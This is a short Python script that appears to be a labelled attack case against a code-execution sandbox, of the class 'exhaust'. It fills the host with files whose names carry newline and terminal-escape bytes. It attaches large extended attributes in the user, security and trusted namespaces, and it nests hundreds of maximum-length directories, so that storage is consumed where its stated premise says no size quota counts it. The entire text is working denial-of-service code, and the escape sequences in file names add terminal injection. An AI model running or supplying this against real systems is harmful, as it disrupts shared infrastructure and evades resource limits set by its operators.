# class: exhaust
# success: memory is taken as attributes and long names of files, which no size counts
import os

def solve(x):
    for number in range(200):
        name = f"{number:03d}" + "\n\x1b" * 120
        open(name, "w").close()
        for attribute in ("user.a", "security.a", "trusted.a"):
            try:
                os.setxattr(name, attribute, b"x" * 60_000)
                print("{{secret}}", attribute)
            except OSError:
                pass
    for _ in range(500):
        os.mkdir("d" * 255)
        os.chdir("d" * 255)
    return 0
